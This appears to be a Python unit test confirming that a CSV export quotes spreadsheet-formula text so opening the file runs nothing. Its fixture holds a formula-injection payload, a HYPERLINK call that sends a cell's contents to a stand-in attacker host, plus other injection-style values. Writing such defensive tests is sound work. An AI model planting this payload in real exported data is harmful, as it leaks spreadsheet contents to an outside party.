"""A CSV opened in a spreadsheet runs nothing: text that starts like a formula (typed by a
customer into a search box, then exported by an analyst) is quoted; numbers stay numbers."""

from __future__ import annotations

import io

import pandas as pd

from exports.panel_csv import frame_csv


def test_csv001_text_that_a_spreadsheet_would_run_is_quoted_and_numbers_are_not():
    frame = pd.DataFrame({
        "term": ['=HYPERLINK("http://evil.example/?"&B2,"Click")', "+1 555", "@SUM(A1)",
                 "-2+3", "\tcmd", "shoes"],
        "searches": [3, -4, 5, 6, 7, 8],
        "change": [-0.5, 1.25, -3.0, 0.0, 2.5, -1.0],
    })  # fmt: skip
    read = pd.read_csv(io.StringIO(frame_csv(frame)), keep_default_na=False)
    assert list(read["term"]) == ['\'=HYPERLINK("http://evil.example/?"&B2,"Click")', "'+1 555",
                                  "'@SUM(A1)", "'-2+3", "'\tcmd", "shoes"]  # fmt: skip
    assert list(read["searches"]) == [3, -4, 5, 6, 7, 8]
    assert list(read["change"]) == [-0.5, 1.25, -3.0, 0.0, 2.5, -1.0]
